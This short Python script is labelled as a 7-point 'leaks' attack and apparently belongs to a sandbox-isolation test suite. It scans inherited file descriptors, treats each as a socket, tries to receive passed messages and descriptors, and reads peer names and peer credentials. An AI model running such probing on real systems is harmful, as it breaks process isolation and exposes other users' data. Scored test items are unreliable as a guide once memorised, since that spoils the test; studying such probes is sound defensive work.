# attack: waits for descriptors that others might send on the open socket
# family: leaks
# base: solved
# points: 7
# %% last
import os, socket
for descriptor in range(3, 64):
    try:
        line = socket.socket(fileno=os.dup(descriptor))
        line.setblocking(False)
        print(line.recvmsg(100, 1000), line.getsockname(), line.getpeername())
        print(line.getsockopt(socket.SOL_SOCKET, 17, 12))
    except OSError as error:
        continue
